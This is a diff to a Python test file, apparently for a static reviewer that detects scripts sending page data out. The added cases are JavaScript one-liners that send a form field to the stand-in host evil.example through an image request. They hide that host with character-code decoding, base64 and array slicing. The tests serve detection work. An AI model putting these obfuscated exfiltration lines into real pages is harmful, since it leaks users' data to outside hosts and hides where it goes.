@@ -95,6 +95,12 @@ def test_each_function_gives_what_node_gives():
     ("new Image().src = 'https://EVIL.example.invalid'.replace('.invalid', '').toLowerCase() + '/p?' + flowUi.get('a');",
      "evil.example"),
     ("const h = 'xxevil.example'.slice(2); new Image().src = `https://${h}/p?` + flowUi.get('a');", "evil.example"),
+    ("new Image().src = String.fromCharCode.apply(null, [104, 116, 116, 112, 115, 58, 47, 47]) + 'evil.example/?' + flowUi.get('a');",
+     "evil.example"),
+    ("new Image().src = atob.call(null, 'aHR0cHM6Ly9ldmlsLmV4YW1wbGUvPw==') + flowUi.get('a');", "evil.example"),
+    # An array's slice is an array: its text is its elements', not the slice of its joined text.
+    ("const p = ['https://evil.example/?', 'https://b.example/?']; new Image().src = p.slice(0, 1) + flowUi.get('a');",
+     "evil.example"),
 ])
 def test_a_host_decoded_or_cut_out_of_a_literal_is_named(script, host):
     found = review_static(f"<p>x</p><script>{script}</script>", file="b.html", fields=["a"])
